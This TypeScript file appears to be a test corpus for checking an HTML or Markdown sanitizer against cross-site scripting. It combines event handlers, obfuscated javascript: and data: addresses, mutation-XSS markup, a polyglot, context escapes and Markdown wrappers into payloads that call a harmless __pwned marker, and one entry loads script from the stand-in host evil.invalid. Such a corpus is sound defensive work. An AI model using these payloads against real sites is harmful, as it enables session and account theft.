/**
 * Attacks on whoever shows foreign text as a page, made from known ways to run a script and known ways to get out of
 * where the text stands. Each calls `__pwned` with its number, so that a test can say which one ran.
 */
const RUN = '__pwned(NUMBER)'

const events = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'onclick',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerrawupdate',
  'onbeforematch',
  'onscrollend',
  'oncontentvisibilityautostatechange',
]
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'embed src=x',
  'marquee',
  'select autofocus',
  'div tabindex=0 autofocus',
  'a href=#x',
]

/** Any event handler on any element that has one. */
const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=${RUN}>`))

const scriptAddresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgwKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `//evil.invalid/x.js`,
  `javascript://%0a${RUN}`,
  `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></script><svg onload=${RUN}//`,
]
const addressed = [
  (address: string) => `<a href="${address}" id=bait>x</a>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<form action="${address}"><button>x</button></form>`,
  (address: string) => `<button formaction="${address}">x</button>`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address: string) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<base href="${address}//">`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}>)`,
  (address: string) => `![x](${address})`,
  (address: string) => `<${address}>`,
  (address: string) => `[x][y]\n\n[y]: ${address}`,
]
const addresses = addressed.flatMap((element) => scriptAddresses.map(element))

const simple = [
  `<script>${RUN}</script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<<script>${RUN}//<</script>`,
  `<script\u0000>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src=x onerror="${RUN}"`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${RUN} /></svg>#x">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com/embed/a" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com/embed/a"><img src=x onerror=${RUN}></iframe><img src=x onerror=${RUN}>`,
  `<iframe src="https://www.youtube-nocookie.com/embed/../../x?javascript:${RUN}"></iframe>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<p style="background:url(javascript:${RUN});animation:x" onanimationstart=${RUN}>x</p>`,
  `<link rel=stylesheet href="data:text/css,*{x:expression(${RUN})}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<div is=x-y onclick=${RUN} contenteditable accesskey=x>x</div>`,
  `<x onclick=${RUN} tabindex=1 id=x>x</x>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if true]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<p id=__proto__ name=body>x</p><form id=body><input name=parentNode></form>`,
  `<a id=location href=javascript:${RUN}><a id=location name=href href=javascript:${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<div popover id=p onbeforetoggle=${RUN}>x</div><button popovertarget=p>x</button>`,
  `<input type=hidden oncontentvisibilityautostatechange=${RUN} style=content-visibility:auto>`,
]

/** Markup that means one thing when it is cleaned and another when it is read again. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe></foreignObject></svg>`,
  `<svg><desc><noscript><img src=x title="</noscript><img src=x onerror=${RUN}>"></desc></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${RUN}>"></select>`,
  `<table><tr><td><style><img src=x onerror=${RUN}></td></tr></table>`,
  `<a><table><a href="javascript:${RUN}">x</a></table></a>`,
  `<p><svg><title><p title="</title></svg><img src=x onerror=${RUN}>"></title></svg>`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${RUN}>">`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<details><summary><math><mtext><option><mglyph><style><img src=x onerror=${RUN}></style></mglyph></option></mtext></math></summary></details>`,
  `<code class="language-html"><img src=x onerror=${RUN}></code>`,
  `<pre><code class="language-html">&lt;img src=x onerror=${RUN}&gt;</code></pre>`,
  `<h2 id="section-x"><img src=x onerror=${RUN}>&lt;img src=x onerror=${RUN}&gt;</h2>`,
  `<table><caption>"><img src=x onerror=${RUN}></caption><tr><td>x</table>`,
  `${'<div>'.repeat(90)}<img src=x onerror=${RUN}>`,
]

/** Where text may come to stand, and how one gets out of there. */
const escapes = [
  (attack: string) => `">${attack}`,
  (attack: string) => `'>${attack}`,
  (attack: string) => `\`>${attack}`,
  (attack: string) => `</title>${attack}`,
  (attack: string) => `</script>${attack}`,
  (attack: string) => `</textarea></noscript></style></template></select></xmp></iframe>${attack}`,
  (attack: string) => `-->${attack}`,
  (attack: string) => `]]>${attack}`,
  (attack: string) => `\u2028\u2029${attack}`,
  (attack: string) => `\\u003c/script>${attack}\\`,
  (attack: string) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack: string) => attack.replaceAll('<', '&amp;lt;'),
  (attack: string) => encodeURIComponent(attack),
  (attack: string) => attack.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
]

/** Blocks of Markdown that carry text into another place of the page. */
const blocks = [
  (attack: string) => `# ${attack}`,
  (attack: string) => `- a\n  - ${attack}`,
  (attack: string) => `> ${attack}`,
  (attack: string) => `| a |\n|---|\n| ${attack} |`,
  (attack: string) => `\`\`\`html\n${attack}\n\`\`\`\n${attack}`,
  (attack: string) => `\`\`\`"><script>${RUN}</script>\n${attack}\n\`\`\``,
  (attack: string) => `\`${attack}\` **${attack}**`,
  (attack: string) => `[${attack}](/x "${attack}")`,
  (attack: string) => `![${attack}](/x.png '${attack}')`,
  (attack: string) => `<p>before</p>\n${attack}\n<p>after</p>`,
  (attack: string) => `<p>\n\n${attack}`,
]

const central = [simple[0], simple[6], simple[9], simple[14], addresses[0], mutating[0]].flatMap(
  (attack) => attack ?? [],
)

export const xssCorpus = [
  ...simple,
  ...mutating,
  ...addresses,
  ...handlers,
  ...central.flatMap((attack) => [...escapes, ...blocks].map((frame) => frame(attack))),
  ...escapes.flatMap((escape) => blocks.map((block) => block(escape(simple[6] ?? '')))),
].map((attack, number) => attack.replaceAll('NUMBER', String(number)))
